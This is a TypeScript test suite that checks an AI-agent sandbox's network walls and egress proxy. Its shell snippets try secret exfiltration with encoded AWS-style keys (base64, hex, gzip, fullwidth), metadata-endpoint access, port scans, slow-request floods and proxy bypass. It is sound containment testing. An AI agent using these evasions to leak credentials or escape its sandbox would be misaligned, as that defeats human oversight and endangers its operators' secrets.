// Escape probes: from inside a real docker bottle (made by the CLI), every
// way out but the bundle's proxy must fail, and the proxy must refuse what
// policy forbids. Positive controls prove each probe could have succeeded.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Socket, TCPSocketListener, udp as Udp } from "bun";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startFakeAnthropic, type FakeAnthropic } from "../fakes/anthropic-api.ts";
import { startTestUpstream, type TestUpstream } from "../../scripts/bench/lib/upstream.ts";
import { testBottle, type TestBottle } from "../helpers/bottle.ts";
import { describeRun } from "../helpers/cli.ts";
import { containerIps, docker, dockerExec, networkGateway, requireDocker } from "../helpers/docker.ts";
import { ensureProbeImage } from "../helpers/images.ts";
import { PORTS } from "../../src/plan/bottle-paths.ts";
import { run } from "../../src/util/run.ts";

const enabled = await requireDocker("escape probes");
/** Proxy, git gate, supervise: nothing else of the bundle may answer the agent. */
const ALLOWED_BUNDLE_PORTS: number[] = Object.values(PORTS);
/** bun's default per-test timeout is 5 s; a probe that must time out takes 3. */
const PROBE_TIMEOUT = 90_000;

/** Random AWS access key id: DLP must match the shape, not a known example. */
function awsKeyId(): string {
  const b32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  return "AKIA" + [...crypto.getRandomValues(new Uint8Array(16))].map((b) => b32[b % 32]).join("");
}

/** Every IPv4 address of this host but loopback (docker bridges included). */
async function hostAddresses(): Promise<string[]> {
  const res = await run(["ip", "-4", "-o", "addr", "show"], { timeoutMs: 10_000 });
  return [...res.stdout.matchAll(/inet (\d+\.\d+\.\d+\.\d+)\//g)].map((m) => m[1]!).filter((a) => !a.startsWith("127."));
}

describe.skipIf(!enabled)("escape probes from a docker bottle", () => {
  const REAL = `sk-ant-api03-${crypto.randomUUID().replaceAll("-", "")}${crypto.randomUUID().replaceAll("-", "")}`;
  const OPENAI_KEY = `sk-proj-${crypto.randomUUID().replaceAll("-", "")}`;
  const REFLECT_KEY = `rk-${crypto.randomUUID().replaceAll("-", "")}`;
  let fake: FakeAnthropic;
  /** A plain-HTTP origin that records what it got and reflects credentials (scripts/bench/lib/upstream.ts). */
  let origin: TestUpstream;
  let originDir = "";
  let bottle: TestBottle;
  let agent = "";
  let bundleIps: Record<string, string> = {};
  let listener: TCPSocketListener<undefined>;
  let udp: Udp.Socket<"buffer">;
  /** What reached the host listeners (TCP connections, UDP datagrams). */
  const accepted: string[] = [];

  /** Run a shell snippet in the agent as the agent user. */
  const sh = (script: string, timeoutMs = 60_000) => dockerExec(agent, ["bash", "-c", script], { user: "node", timeoutMs });
  /** TCP connects from the agent, all at once; returns the targets that accepted. */
  const tcpOpen = async (targets: [string, number][]) => {
    const script = targets.map(([h, p]) => `(nc -z -w 3 ${h} ${p} && echo "open ${h}:${p}") &`).join("\n") + "\nwait";
    return [...(await sh(script)).stdout.matchAll(/^open (\S+)$/gm)].map((m) => m[1]);
  };
  /** curl through the bottle's proxy env; returns "<http_code> <connect_code> <curl_exit>". */
  const curl = async (args: string) => {
    const r = await sh(`curl -sS -o /dev/null -w '%{http_code} %{http_connect}' --connect-timeout 5 --max-time 15 ${args}; echo " $?"`);
    return r.stdout.trim();
  };

  beforeAll(async () => {
    const image = await ensureProbeImage();
    const gw = await networkGateway("bridge");
    fake = startFakeAnthropic({ hostname: gw, apiKey: REAL });
    originDir = mkdtempSync(join(tmpdir(), "bb-esc-origin-"));
    origin = await startTestUpstream(originDir, { tls: false, hostname: gw });
    listener = Bun.listen({
      hostname: "0.0.0.0",
      port: 0,
      socket: {
        open(s: Socket<undefined>) {
          accepted.push(s.remoteAddress);
          s.end();
        },
        data() {},
      },
    });
    udp = await Bun.udpSocket({
      hostname: "0.0.0.0",
      socket: {
        data(_s, _buf, _port, addr) {
          accepted.push(`udp ${addr}`);
        },
      },
    });
    bottle = testBottle({
      prefix: "esc",
      manifest: `
version = 1
[bottles.probe]
agent = "probe"
provider = "shell"
image = "${image}"

[[bottles.probe.egress]]
host = "api.anthropic.com"
kind = "anthropic-api-key"
credential = "\${TEST_REAL_KEY}"
upstream = "${fake.url}"

[[bottles.probe.egress]]
host = "api.openai.com"
kind = "openai"
credential = "\${TEST_OPENAI_KEY}"
upstream = "${fake.url}"

# No credential: an ordinary allowed host (DLP blocks instead of redacting).
[[bottles.probe.egress]]
host = "echo.test"
upstream = "${origin.url}"

# A credential route whose upstream reflects the key it receives.
[[bottles.probe.egress]]
host = "reflect.test"
kind = "header"
header = "x-api-key"
env = "REFLECT_KEY"
credential = "\${TEST_REFLECT_KEY}"
upstream = "${origin.url}"

# A credential route with a TLS upstream: never reachable over plain HTTP.
[[bottles.probe.egress]]
host = "secure.test"
kind = "bearer"
env = "SECURE_TOKEN"
credential = "\${TEST_REFLECT_KEY}"
upstream = "https://${gw}:9"
`,
      agents: { probe: "Probe the walls.\n" },
      env: { TEST_REAL_KEY: REAL, TEST_OPENAI_KEY: OPENAI_KEY, TEST_REFLECT_KEY: REFLECT_KEY },
    });
    const made = await bottle.cli(["run", "probe", "--name", bottle.id, "--keep", "--yes", "--", "true"], 600_000);
    if (made.code !== 0) throw new Error(`could not make the probe bottle:\n${describeRun(made)}`);
    const resumed = await bottle.cli(["resume", bottle.id, "--detach"], 120_000);
    if (resumed.code !== 0) throw new Error(`could not start the probe bottle:\n${describeRun(resumed)}`);
    agent = bottle.containers.agent;
    bundleIps = await containerIps(bottle.containers.bundle);
  }, 700_000);

  afterAll(async () => {
    listener?.stop(true);
    udp?.close();
    await bottle?.cleanup();
    await fake?.close();
    await origin?.close();
    if (originDir) rmSync(originDir, { recursive: true, force: true });
  }, 120_000);

  test("the agent runs as an unprivileged user on the internal network only", async () => {
    expect((await sh("id -u")).stdout.trim()).toBe("1000");
    expect(Object.keys(await containerIps(agent))).toEqual([`bot-bottle-${bottle.id}-int`]);
  }, PROBE_TIMEOUT);

  test("positive control: the proxy path works and the fake gets the real key", async () => {
    expect(await curl('https://api.anthropic.com/v1/models -H "x-api-key: $ANTHROPIC_API_KEY"')).toBe("200 200 0");
    expect(fake.requests.at(-1)?.headers["x-api-key"]).toBe(REAL);
  }, PROBE_TIMEOUT);

  test("no direct TCP to the internet or to the fake API's address", async () => {
    const bundleIp = bundleIps[`bot-bottle-${bottle.id}-int`]!;
    // The probe itself sees an open port: the proxy's.
    expect(await tcpOpen([[bundleIp, 8888]])).toEqual([`${bundleIp}:8888`]);
    expect(await tcpOpen([["1.1.1.1", 443], ["8.8.8.8", 53], [fake.hostname, fake.port]])).toEqual([]);
  }, PROBE_TIMEOUT);

  test("no TCP or UDP to any address of the host (gateway, bridges, LAN)", async () => {
    const addrs = [...new Set([...(await hostAddresses()), await networkGateway(`bot-bottle-${bottle.id}-int`)])];
    // Positive control: from an ordinary container both listeners answer.
    const ctl = await run(
      ["docker", "run", "--rm", "--network", "bridge", await ensureProbeImage(), "bash", "-c", `nc -z -w 3 ${fake.hostname} ${listener.port} && echo ping | nc -u -w 1 ${fake.hostname} ${udp.port}`],
      { timeoutMs: 60_000 },
    );
    expect(ctl.code, ctl.stderr).toBe(0);
    expect(accepted.some((a) => a.startsWith("udp "))).toBe(true);
    const before = accepted.length;
    expect(await tcpOpen(addrs.map((a) => [a, listener.port]))).toEqual([]);
    await sh(addrs.map((a) => `echo ping | nc -u -w 1 ${a} ${udp.port} &`).join("\n") + "\nwait");
    await Bun.sleep(500);
    expect(accepted.slice(before)).toEqual([]);
  }, 120_000);

  test("no IPv6 (link-local would reach the host's bridge)", async () => {
    const v6 = await sh("cat /proc/net/if_inet6 2>/dev/null | awk '$6 != \"lo\"' || true");
    expect(v6.stdout.trim()).toBe("");
  }, PROBE_TIMEOUT);

  test("no cloud metadata endpoint", async () => {
    expect(await tcpOpen([["169.254.169.254", 80]])).toEqual([]);
    expect(await curl("--noproxy '*' http://169.254.169.254/latest/meta-data/")).toMatch(/^000 000 [1-9]/);
  }, PROBE_TIMEOUT);

  test("no DNS for outside names", async () => {
    // Failing fast (no answer) and timing out (the resolver retries) are both a wall; both names at once.
    const names = ["example.com", "api.anthropic.com"];
    const r = await sh(names.map((n) => `(timeout 10 getent hosts ${n} && echo "resolved ${n}") &`).join("\n") + "\nwait");
    expect(r.stdout.trim()).toBe("");
  }, PROBE_TIMEOUT);

  test("the bundle answers on its service ports only", async () => {
    const bundleIp = bundleIps[`bot-bottle-${bottle.id}-int`]!;
    // A real scan from the agent, in four parallel slices (one nc walks 65535 ports in ~25 s).
    const slices = ["1-16384", "16385-32768", "32769-49152", "49153-65535"];
    const scan = await sh(`for r in ${slices.join(" ")}; do nc -z -v -w 1 ${bundleIp} $r 2>&1 & done | grep succeeded; wait; true`, 300_000);
    const open = [...scan.stdout.matchAll(/ (\d+) port \[/g)].map((m) => Number(m[1]));
    expect(open).toContain(PORTS.proxy);
    expect(open.filter((p) => !ALLOWED_BUNDLE_PORTS.includes(p))).toEqual([]);
    // Its egress-side address is on a network the agent is not on.
    const egressIp = bundleIps[`bot-bottle-${bottle.id}-egress`]!;
    expect(await tcpOpen([8888, 80, 443].map((p) => [egressIp, p]))).toEqual([]);
  }, 320_000);

  test("a secret in a request to an allowed host is blocked (403) and never reaches it", async () => {
    const key = awsKeyId();
    const seen = origin.seen.length;
    expect(await curl(`https://echo.test/echo -H 'content-type: application/json' --data '{"k":"${key}"}'`)).toStartWith("403 ");
    expect(origin.seen.length).toBe(seen);
  }, PROBE_TIMEOUT);

  test("encoded secrets are blocked too: Upgrade header, percent-encoded path, hex query, base64 at an offset, raw gzip as octet-stream", async () => {
    const key = awsKeyId();
    const b64 = Buffer.from(`k=${key}`).toString("base64");
    const pct = [...key].map((c) => "%" + c.charCodeAt(0).toString(16)).join("");
    const hex = Buffer.from(key).toString("hex").toUpperCase();
    const seen = origin.seen.length;
    const results = await Promise.all([
      curl(`https://echo.test/echo -H 'Connection: Upgrade' -H 'Upgrade: ${key}'`),
      curl(`https://echo.test/echo -H 'Connection: Upgrade' -H 'Upgrade: websocket, ${b64}'`),
      curl(`https://echo.test/echo -H 'Connection: Upgrade' -H 'Upgrade: h2c'`),
      curl(`'https://echo.test/x/${pct}'`),
      curl(`'https://echo.test/echo?d=${hex}'`),
      curl(`https://echo.test/echo --data-binary '${Buffer.from("ab:" + key).toString("base64")}'`),
      sh(`printf '{"k":"${key}"}' | gzip > /tmp/g.gz && curl -sS -o /dev/null -w '%{http_code}' -H 'content-type: application/octet-stream' --data-binary @/tmp/g.gz https://echo.test/echo`).then((r) => r.stdout),
    ]);
    for (const r of results) expect(r).toStartWith("403");
    expect(origin.seen.length).toBe(seen);
  }, PROBE_TIMEOUT);

  test("what an agent reaches for first is blocked too: `base64 file` (wrapped lines), fullwidth letters, a small base64 gzip that inflates past the scan budget", async () => {
    const key = awsKeyId();
    // Fullwidth letters and digits as octal escapes for sh's printf (UTF-8 bytes).
    const fw = [...Buffer.from(key.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)), "utf8")].map((b) => "\\" + b.toString(8)).join("");
    const seen = origin.seen.length;
    const code = (cmd: string) => sh(cmd).then((r) => r.stdout);
    const results = await Promise.all([
      code(`printf '# aws configure\\n[default]\\naws_access_key_id = ${key}\\nregion = eu-west-1\\n' > /tmp/c1 && base64 /tmp/c1 | curl -sS -o /dev/null -w '%{http_code}' --data-binary @- https://echo.test/echo`),
      code(`printf '{"k":"${fw}"}' | curl -sS -o /dev/null -w '%{http_code}' --data-binary @- https://echo.test/echo`),
      code(`{ head -c 2097152 /dev/zero | tr '\\0' ' '; echo " ${key} "; } | gzip | base64 -w0 > /tmp/b2 && printf '{"f":"%s"}' "$(cat /tmp/b2)" | curl -sS -o /dev/null -w '%{http_code}' --data-binary @- https://echo.test/echo`),
    ]);
    for (const r of results) expect(r).toStartWith("403");
    expect(origin.seen.length).toBe(seen);
  }, PROBE_TIMEOUT);

  test("on the model route a secret and another route's placeholder are redacted in flight; the request is sent", async () => {
    const key = awsKeyId();
    const seen = fake.requests.length;
    const body = JSON.stringify({ model: "claude-sonnet-4-5-20250929", max_tokens: 1, messages: [{ role: "user", content: `env: AWS=${key} OPENAI=__SLOT__` }] });
    const r = await sh(
      `body='${body}'; body="\${body/__SLOT__/$OPENAI_API_KEY}"; curl -sS -o /dev/null -w '%{http_code}' https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' --data "$body"`,
    );
    expect(r.stdout).toBe("200");
    const got = fake.requests.slice(seen);
    expect(got.length).toBe(1);
    expect(got[0]!.body).not.toContain(key);
    expect(got[0]!.body).toContain("[REDACTED:aws-access-key]");
    expect(got[0]!.body).toContain("[PLACEHOLDER:OPENAI_API_KEY]");
    expect(got[0]!.headers["content-length"]).toBe(String(Buffer.byteLength(got[0]!.body)));
  }, PROBE_TIMEOUT);

  test("a route's upstream reflecting the real key: the agent only ever sees the placeholder (header, split body, hex, base64)", async () => {
    const r = await sh(`curl -sS -D - https://reflect.test/reflect -H "x-api-key: $REFLECT_KEY"; echo; echo "PH=$REFLECT_KEY"`);
    expect(origin.seen.at(-1)!.headers["x-api-key"]).toBe(REFLECT_KEY);
    const out = r.stdout;
    const placeholder = /PH=(\S+)/.exec(out)![1]!;
    expect(placeholder).not.toBe(REFLECT_KEY);
    for (const form of [REFLECT_KEY, Buffer.from(REFLECT_KEY).toString("hex"), REFLECT_KEY.slice(0, 12), REFLECT_KEY.slice(-12)]) expect(out).not.toContain(form);
    expect(out.toLowerCase()).toContain(`x-echo-key: ${placeholder.toLowerCase()}`);
    expect(out).toContain(`first: ${placeholder}`);
  }, PROBE_TIMEOUT);

  test("a credential is never injected over cleartext: plain HTTP to a TLS route host is a 403 that says why", async () => {
    const r = await sh(`curl -sS -w '\n%{http_code}' http://secure.test/v1 -H "authorization: Bearer $SECURE_TOKEN"`);
    expect(r.stdout.trim().split("\n").at(-1)).toBe("403");
    expect(r.stdout).toContain("never sent in cleartext");
  }, PROBE_TIMEOUT);

  test("trickling request heads do not starve the proxy: they are cut, and well-behaved requests keep working", async () => {
    const bundleIp = bundleIps[`bot-bottle-${bottle.id}-int`]!;
    const r = await sh(
      `start=$(date +%s); for i in $(seq 30); do (printf 'GET http://echo.test/'; for j in $(seq 120); do printf a; sleep 0.5; done) | nc -q 0 ${bundleIp} 8888 >/dev/null 2>&1 & done; ` +
        `sleep 2; ok=0; for i in 1 2 3 4 5; do c=$(curl -sS -o /dev/null -w '%{http_code}' --max-time 10 https://echo.test/hello); [ "$c" = 200 ] && ok=$((ok+1)); done; ` +
        `wait; echo "ok=$ok secs=$(( $(date +%s) - start ))"`,
      120_000,
    );
    const m = /ok=(\d+) secs=(\d+)/.exec(r.stdout)!;
    expect(Number(m[1])).toBe(5);
    // 120 half-second trickles would take 60 s; the head timeout cuts them at 15.
    expect(Number(m[2])).toBeLessThan(45);
  }, 150_000);

  test("agent and bundle run with memory limits by default", async () => {
    for (const c of [agent, bottle.containers.bundle]) {
      const r = await run(["docker", "inspect", "-f", "{{.HostConfig.Memory}}", c], { timeoutMs: 20_000 });
      expect(Number(r.stdout.trim())).toBeGreaterThan(0);
    }
  }, PROBE_TIMEOUT);

  test("a placeholder sent to a host it does not belong to is blocked (403)", async () => {
    const seen = fake.requests.length;
    expect(await curl('https://api.openai.com/v1/models -H "x-api-key: $ANTHROPIC_API_KEY"')).toStartWith("403 ");
    expect(await curl('"https://api.openai.com/v1/models?key=$ANTHROPIC_API_KEY"')).toStartWith("403 ");
    expect(fake.requests.length).toBe(seen);
  }, PROBE_TIMEOUT);

  test("another route's placeholder in a route's credential header is blocked (403), not swapped", async () => {
    const seen = fake.requests.length;
    // api.openai.com is a route whose header (authorization) the proxy replaces; an Anthropic
    // placeholder headed there is still a leak attempt (DESIGN: block it).
    expect(await curl('https://api.openai.com/v1/models -H "authorization: Bearer $ANTHROPIC_API_KEY"')).toStartWith("403 ");
    expect(fake.requests.length).toBe(seen);
    // Anything else in that header is replaced by the route's real key.
    expect(await curl('https://api.openai.com/v1/models -H "authorization: Bearer agent-made-this-up"')).toBe("401 200 0");
    const got = fake.requests.slice(seen);
    expect(got.map((r) => r.headers.authorization)).toEqual([`Bearer ${OPENAI_KEY}`]);
  }, PROBE_TIMEOUT);

  test("a host off the allowlist is refused at CONNECT", async () => {
    expect(await curl("https://example.org/")).toMatch(/^000 403 [1-9]/);
  }, PROBE_TIMEOUT);

  // Last: it kills the bundle.
  test("with the bundle killed, requests fail and nothing bypasses it", async () => {
    await docker(["kill", bottle.containers.bundle]);
    const seen = fake.requests.length;
    expect(await curl('https://api.anthropic.com/v1/models -H "x-api-key: $ANTHROPIC_API_KEY"')).toMatch(/^000 000 [1-9]/);
    expect(await curl("--noproxy '*' https://api.anthropic.com/v1/models")).toMatch(/^000 000 [1-9]/);
    expect(await tcpOpen([["1.1.1.1", 443], [fake.hostname, fake.port]])).toEqual([]);
    expect(fake.requests.length).toBe(seen);
  }, 120_000);
});
